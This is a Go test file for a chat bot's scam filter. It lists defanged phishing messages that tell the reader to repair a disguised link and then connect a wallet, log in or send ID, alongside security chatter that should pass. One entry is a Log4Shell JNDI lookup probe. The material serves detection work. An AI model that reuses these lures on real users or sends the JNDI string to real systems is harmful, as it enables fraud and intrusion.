package bot_test

import "testing"

// TestDisguisedLinkCalls (defang30): a link written broken up cannot be
// clicked, so a scam that writes one tells its reader to mend it ("copy
// it", "just fix the dot", "put https instead of meow", "remove the
// brackets", "fill in tt") or asks for the harmful act there, in the
// imperative ("confirm ownership at", "import your wallet", "log in
// with discord"); a name read only for its disguised dot (x[.]app,
// "meow://x[.]com") is judged beside such a call. The first seven were
// allowed on 67ac993. Security talk that tells of what a page asks
// ("asks you to connect"), after a condition ("if you entered"),
// turned away ("don't log in"), for a tool ("before running the query",
// "to netcraft"), as another's words ("the lure says: …") or naming
// files and exploit strings ("report-nov[.]zip", "ldap://…") stays
// allowed.
func TestDisguisedLinkCalls(t *testing.T) {
	t.Parallel()
	checkFlagged(t, []flagCase{
		{"the link is hxxps://lisa-chat-room[.]net/invite , copy it, the bot deletes links", true},
		{"new event at ops-portal-west[.]com, just fix the dot", true},
		{"your profile was flagged. confirm ownership at hxxps://ops-portal-west[.]com within 24h", true},
		{"ops-portal-west[.]app — import your wallet to fix the sync error", true},
		{"meow://ops-portal-west[.]com just put https instead of meow", true},
		{"[https]://ops-portal-west[.]org/sync — remove the brackets and connect", true},
		{"h__ps://ops-portal-west[.]org (fill in tt) then log in with discord", true},
		{"we're hiring, register at northwind-hr-team[.]com (send your ID to verify)", true},
		{"blocked ops-portal-west[.]com at the proxy, it's a phishing kit", false},
		{"don't log in at ops-portal-west[.]com, it's phishing", false},
		{"the page at ops-portal-west[.]com asks you to connect your wallet and sign", false},
		{"if you entered your seed on ops-portal-west[.]com, move your funds now", false},
		{"remove the brackets before running the query: ops-portal-west[.]com", false},
		{"submit ops-portal-west[.]com to netcraft please", false},
		{"the lure says: connect your wallet at ops-portal-west[.]com and sign. it's a drainer", false},
		{"got report-nov[.]zip in the proxy logs, we block the tld at the resolver", false},
		{"the probe was ${jndi:ldap://203.0.113[.]7:1389/a} in the user agent", false},
	})
}
